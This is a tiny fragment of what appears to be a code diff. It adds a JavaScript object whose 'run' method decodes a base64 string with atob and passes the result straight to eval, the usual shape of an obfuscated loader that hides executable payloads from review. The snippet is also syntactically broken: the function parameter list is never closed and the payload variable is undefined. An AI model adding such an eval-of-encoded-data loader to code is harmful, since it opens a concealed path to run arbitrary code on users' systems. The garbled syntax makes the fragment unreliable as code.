@@ -1,0 +1,2 @@
+const x = {
+  run: function ( { eval(atob(p)) }
